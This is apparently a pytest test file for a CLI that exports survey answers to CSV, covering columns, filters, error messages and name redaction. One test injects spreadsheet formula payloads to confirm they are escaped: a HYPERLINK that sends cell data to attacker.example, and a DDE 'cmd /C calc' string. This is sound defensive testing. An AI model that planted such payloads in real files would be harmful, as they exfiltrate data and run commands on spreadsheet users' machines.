"""``evalbot export answers``: every answer as a CSV row, for a partnership's own analysis.

The answers are the hand-built quarter of ``tests/test_report.py``: 68 answers in all, 33 of
them in end-of-course surveys; 8 belong to sessions outside January to March 2026 (5 to
15 December 2025, 3 to the session that starts at 00:30 on 1 April, London time).
"""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from sqlmodel import Session
from typer.testing import CliRunner

from bot.cli import app
from tests.report_world import NM, WT, build_quarter

HEADER = [
    "booking_ref", "course", "session_ref", "session_date", "agency", "sector", "stage",
    "survey_status", "question_key", "item", "measure", "outcome_index", "outcome", "value",
    "answered_at", "channel",
]  # fmt: skip


@pytest.fixture
def cli(session: Session, database_url: str, monkeypatch: pytest.MonkeyPatch) -> CliRunner:
    build_quarter(session)
    monkeypatch.setenv("EVALBOT_DATABASE_URL", database_url)
    return CliRunner()


def export(cli: CliRunner, out: Path, *options: str) -> list[dict[str, str]]:
    result = cli.invoke(app, ["export", "answers", "--out", str(out), *options])
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8-sig", newline="") as handle:
        reader = csv.DictReader(handle)
        assert reader.fieldnames == HEADER
        rows = list(reader)
    assert f"Wrote {len(rows)} answers to {out}." in result.output
    return rows


def test_every_answer_is_a_row_with_its_booking_course_session_and_agency(
    cli: CliRunner, tmp_path: Path
) -> None:
    rows = export(cli, tmp_path / "all.csv")
    assert len(rows) == 68
    barriers = next(r for r in rows if r["booking_ref"] == "B2" and r["item"] == "barriers")
    assert barriers == {
        "booking_ref": "B2", "course": WT, "session_ref": "WT-2026-01-20",
        "session_date": "2026-01-20", "agency": "Northgate NHS Trust", "sector": "health",
        "stage": "impact", "survey_status": "finished", "question_key": "barriers",
        "item": "barriers", "measure": "", "outcome_index": "", "outcome": "",
        "value": "time; support", "answered_at": "2026-01-01T10:00:00+00:00", "channel": "web",
    }  # fmt: skip
    knowledge = next(
        r for r in rows if r["booking_ref"] == "C1" and r["question_key"] == "knowledge.1"
        and r["stage"] == "pre"
    )  # fmt: skip
    assert (knowledge["course"], knowledge["measure"], knowledge["outcome_index"]) == (
        NM, "knowledge", "1"
    )  # fmt: skip
    assert (knowledge["outcome"], knowledge["value"]) == ("use the toolkit", "2")
    applied = next(r for r in rows if r["booking_ref"] == "B1" and r["item"] == "applied")
    assert applied["value"] == "yes"
    # The session that starts at 23:30 UTC on 31 March is on 1 April in London.
    late = {r["session_date"] for r in rows if r["session_ref"] == "NM-2026-04-01"}
    assert late == {"2026-04-01"}
    # Booking refs identify the rows; names never appear.
    text = (tmp_path / "all.csv").read_text(encoding="utf-8-sig")
    for name in ("Alice", "Chloé", "Bob", "Tariq", "Okafor"):
        assert name not in text


def test_stage_and_date_filters(cli: CliRunner, tmp_path: Path) -> None:
    end = export(cli, tmp_path / "end.csv", "--stage", "end")
    assert len(end) == 33 and {r["stage"] for r in end} == {"end"}
    two = export(cli, tmp_path / "two.csv", "--stage", "pre", "--stage", "manager")
    assert {r["stage"] for r in two} == {"pre", "manager"} and len(two) == 21
    quarter = export(cli, tmp_path / "q1.csv", "--from", "2026-01-01", "--to", "2026-03-31")
    assert len(quarter) == 60
    assert {r["session_ref"] for r in quarter} == {"WT-2026-01-20", "NM-2026-02-10"}


def test_bad_options_say_what_is_wrong(cli: CliRunner, tmp_path: Path) -> None:
    result = cli.invoke(
        app, ["export", "answers", "--out", str(tmp_path / "x.csv"), "--stage", "later"]
    )
    assert result.exit_code == 2 and "'later' is not a stage" in result.output
    result = cli.invoke(
        app, ["export", "answers", "--out", str(tmp_path / "x.csv"), "--from", "1/2/26"]
    )
    assert result.exit_code == 2 and "--from: expected a date like 31/03/2026" in result.output
    result = cli.invoke(app, ["export", "answers", "--out", str(tmp_path / "no" / "x.csv")])
    assert result.exit_code == 2 and "does not exist" in result.output


def test_text_that_a_spreadsheet_would_run_is_written_as_plain_text(
    cli: CliRunner, session: Session, tmp_path: Path
) -> None:
    from sqlmodel import select

    from surveys.models import Agency, Answer

    barriers = session.exec(select(Answer).where(Answer.item == "barriers")).first()
    assert barriers is not None
    barriers.value_json = ['=HYPERLINK("http://attacker.example/?d="&A1,"Click")']
    agency = session.exec(select(Agency).where(Agency.name == "Northgate NHS Trust")).one()
    agency.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    session.add_all([barriers, agency])
    session.commit()

    rows = export(cli, tmp_path / "all.csv")
    values = {r["value"] for r in rows if r["item"] == "barriers"}
    assert '\'=HYPERLINK("http://attacker.example/?d="&A1,"Click")' in values
    assert not any(v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
    assert {r["agency"] for r in rows if r["sector"] == "health"} == {
        "'@SUM(1+1)*cmd|' /C calc'!A0"
    }


def test_safe_cells_leave_numbers_and_ordinary_text_alone() -> None:
    from surveys.csv_safe import safe_cell

    assert [safe_cell(v) for v in (-3, 2.5, "time; support", "-1", "+44 7700", "\tx", "\rx")] == [
        -3, 2.5, "time; support", "'-1", "'+44 7700", "'\tx", "'\rx"
    ]  # fmt: skip
